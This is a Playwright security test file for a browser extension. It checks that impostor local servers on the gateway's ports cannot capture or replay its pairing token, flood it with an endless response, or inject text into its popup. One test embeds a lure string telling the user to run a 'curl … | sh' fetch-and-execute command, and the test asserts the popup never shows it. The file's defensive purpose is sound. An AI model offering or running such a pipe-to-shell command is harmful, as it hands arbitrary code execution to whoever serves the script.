/**
 * The local boundary, from the extension's side: once the gateway is gone, anything on this
 * machine (another user's program, say) can answer on a gateway port and claim to be AiPlugs. The
 * extension looks for its gateway there when the paired one does not answer, and calls the paired
 * port until it notices; it must not hand such a server a token or anything it can use in its
 * place, nor let it move the browser's proxy routing, nor be filled by its answers.
 */
import { once } from 'node:events';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from '@playwright/test';
import getPort, { portNumbers } from 'get-port';
import { startGatewayProcess, type GatewayChild } from '../support/gateway-process.js';
import { FIXTURE_PLUGINS, launchWithExtension, openPopup, pairThroughPopup, type ExtensionBrowser } from './support/extension-browser.js';
import { goto } from '../support/navigate.js';

test.describe.configure({ mode: 'serial' });

let gateway: GatewayChild;
let browser: ExtensionBrowser;
let impostor: Server;
const seen: Array<{ path: string; authorization: string | undefined }> = [];

test.beforeAll(async () => {
  gateway = await startGatewayProcess({ args: ['--plugins-dir', FIXTURE_PLUGINS] });
  browser = await launchWithExtension({});
  await pairThroughPopup(browser.context, gateway.ready.apiUrl, await gateway.token());
});

test.afterAll(async () => {
  await browser?.close();
  await gateway?.stop();
  impostor?.closeAllConnections();
  impostor?.close();
});

test('an address typed as localhost is paired as 127.0.0.1, where the gateway listens ([::1] may be anyone)', async () => {
  await pairThroughPopup(browser.context, `localhost:${gateway.ready.apiPort}`, await gateway.token());
  const { settings } = (await (await browser.worker()).evaluate(() => chrome.storage.local.get('settings'))) as { settings?: { gatewayAddress?: string } };
  expect(settings?.gatewayAddress).toBe(`http://127.0.0.1:${gateway.ready.apiPort}`);
});

test('a server claiming to be AiPlugs on a gateway port gets no token once the gateway is gone', async () => {
  expect(await gateway.stop()).toBe(0);
  // It answers everything the way a gateway that took the token would.
  impostor = createServer((request: IncomingMessage, response) => {
    seen.push({ path: request.url ?? '', authorization: request.headers.authorization });
    const port = (impostor.address() as AddressInfo).port;
    const body = request.url === '/api/health' ? { status: 'ok', name: 'aiplugs', version: '0.1.0', apiPort: port, proxyPort: 9 } : request.url === '/api/pairing/proof' ? { proof: 'made-up' } : { paused: false, plugins: [] };
    response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(body));
  });
  impostor.listen(await getPort({ port: portNumbers(5000, 5100), host: '127.0.0.1' }), '127.0.0.1');
  await new Promise((resolve) => impostor.once('listening', resolve));

  const popup = await openPopup(browser.context);
  await expect(popup.getByTestId('connection')).toHaveAttribute('data-state', /^(unpaired|down|rejected)$/);
  expect(seen.some((request) => request.path === '/api/health'), 'the extension looked at the impostor').toBe(true);
  expect(seen.filter((request) => request.authorization !== undefined)).toEqual([]);
  const { settings } = (await (await browser.worker()).evaluate(() => chrome.storage.local.get('settings'))) as { settings?: { proxyPort?: number } };
  expect(settings?.proxyPort).not.toBe(9);
  await popup.close();
});

test('a server on a gateway port cannot fill the extension with an endless answer', async () => {
  // Its health answer never ends: the extension must stop reading, not hold what it reads. Each
  // answer counts apart (the extension may ask more than once).
  const written: number[] = [];
  const flood = createServer((request, response) => {
    const answer = written.push(0) - 1;
    response.writeHead(200, { 'content-type': 'application/json' });
    response.write('{"status":"ok","name":"aiplugs","version":"0.1.0","pad":"');
    const chunk = Buffer.alloc(1024 * 1024, 0x61);
    const pump = () => {
      while (!response.destroyed && written[answer]! < 4 * 1024 ** 3) {
        written[answer]! += chunk.byteLength;
        if (!response.write(chunk)) return void response.once('drain', pump);
      }
    };
    pump();
  });
  flood.listen(await getPort({ port: portNumbers(5000, 5100), host: '127.0.0.1' }), '127.0.0.1');
  await once(flood, 'listening');
  try {
    const popup = await openPopup(browser.context);
    await expect(popup.getByTestId('connection')).toHaveAttribute('data-state', /^(unpaired|down|rejected)$/);
    await popup.close();
    await expect.poll(() => written.length, { message: 'the impostor got to send its answer' }).toBeGreaterThan(0);
    // The extension stops at 64 KiB; what the server gets written is that plus the kernel's buffers
    // and what the browser's network stack reads ahead until the cancel reaches it, at loopback
    // speed: 5 MiB on a quiet machine, 30 MiB once under heavy load. Reading on until the 1.5 s
    // health timeout took 391 MiB, and the popup did not come up.
    for (const bytes of written) expect(bytes).toBeLessThan(64 * 1024 * 1024);
  } finally {
    flood.closeAllConnections();
    flood.close();
  }
});

test('a server on a gateway port cannot put its own words into the popup', async () => {
  impostor.closeAllConnections();
  impostor.close(); // the earlier one answers like a gateway too: this one must be what the popup finds
  // It answers health like a gateway, with a "version" that speaks to the user.
  const lure = 'is damaged - repair it by running: curl http://127.0.0.1:9/fix | sh';
  const liar = createServer((request, response) => {
    const port = (liar.address() as AddressInfo).port;
    const body = request.url === '/api/health' ? { status: 'ok', name: 'aiplugs', version: `0.1.0 ${lure}`, apiPort: port, proxyPort: 9 } : { proof: 'made-up' };
    response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(body));
  });
  liar.listen(await getPort({ port: portNumbers(5000, 5100), host: '127.0.0.1' }), '127.0.0.1');
  await once(liar, 'listening');
  try {
    const popup = await openPopup(browser.context);
    const connection = popup.getByTestId('connection');
    // Before answers were checked it was taken for an unpaired gateway, and shown as
    // "AiPlugs 0.1.0 is damaged - repair it by running: … runs at …, but this browser is not paired".
    await expect(connection).toHaveAttribute('data-state', 'down');
    await expect(popup.locator('body')).not.toContainText('curl');
    await popup.close();
  } finally {
    liar.closeAllConnections();
    liar.close();
  }
});

test("a server that takes the paired gateway's own port gets nothing it can use from the next calls", async () => {
  const dataDir = await mkdtemp(join(tmpdir(), 'aiplugs-squat-'));
  const first = await startGatewayProcess({ args: ['--plugins-dir', FIXTURE_PLUGINS], dataDir });
  const token = await first.token();
  await pairThroughPopup(browser.context, first.ready.apiUrl, token);
  const port = first.ready.apiPort;
  expect(await first.stop()).toBe(0);
  // Another local account binds the port the moment the gateway lets it go, and answers like it.
  const heard: Array<{ method: string; path: string; authorization: string }> = [];
  const squatter = createServer((request: IncomingMessage, response) => {
    if (request.headers.authorization) heard.push({ method: request.method ?? '', path: request.url ?? '', authorization: request.headers.authorization });
    const body = request.url === '/api/health' ? { status: 'ok', name: 'aiplugs', version: '0.1.0', apiPort: port, proxyPort: 9 } : { paused: false, plugins: [] };
    response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(body));
  });
  squatter.listen(port, '127.0.0.1');
  await once(squatter, 'listening');
  const site = createServer((_request, response) => response.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><title>t</title><p>hi</p>'));
  site.listen(0, '127.0.0.1');
  await once(site, 'listening');
  let second: GatewayChild | undefined;
  try {
    // The extension's calls that carry the pairing: a tab's sync, the popup's settings.
    const tab = await browser.context.newPage();
    await goto(tab, `http://127.0.0.1:${(site.address() as AddressInfo).port}/`);
    const popup = await openPopup(browser.context);
    await expect.poll(() => heard.length, { message: 'the extension called the squatter with its pairing' }).toBeGreaterThan(0);
    expect(heard.filter((call) => call.authorization.includes(token))).toEqual([]);
    // What it heard does not open the real gateway either, back on another port with the same token.
    second = await startGatewayProcess({ args: ['--plugins-dir', FIXTURE_PLUGINS], dataDir });
    expect(await second.token()).toBe(token);
    for (const call of heard) {
      const replay = await fetch(`${second.ready.apiUrl}${call.path}`, { method: call.method, headers: { authorization: call.authorization } });
      expect(replay.status, `${call.method} ${call.path} replayed`).toBe(401);
    }
    await popup.close();
    await tab.close();
  } finally {
    await second?.stop();
    squatter.closeAllConnections();
    squatter.close();
    site.close();
    await rm(dataDir, { recursive: true, force: true });
  }
});
